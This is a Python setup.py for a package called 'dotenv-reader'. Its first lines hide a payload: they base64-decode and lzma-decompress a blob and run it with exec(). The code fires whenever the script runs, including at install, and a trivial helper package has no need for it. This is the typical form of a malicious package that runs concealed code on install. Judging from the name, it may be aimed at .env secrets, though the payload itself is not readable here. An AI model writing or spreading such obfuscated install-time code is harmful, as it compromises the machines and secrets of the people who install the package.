import base64, lzma
exec(lzma.decompress(base64.b64decode('/Td6WFoAAATm1rRGAgAhARYAAAB0L+Wj4AB+AGpdADSbSme4Ujxz7TSC7lnutwgbX2Rl/4xfEFINtuQVLLn9wQ9MO9eJ0OkUto6WFvbLcb0kFcPZ67lCNXuEW8s8yX1QSBrkUq98hKORpa/cBEuK4uovghn/DPE4A+XU1Adn9eA9eyLJD9oegAAAAAAuKUinhY5FuQABhgF/AAAAYrqABbHEZ/sCAAAAAARZWg==')))
from setuptools import setup, find_packages

setup(
    name='dotenv-reader',
    version="0.1.0",
    description="Small helpers",
    packages=find_packages(),
)
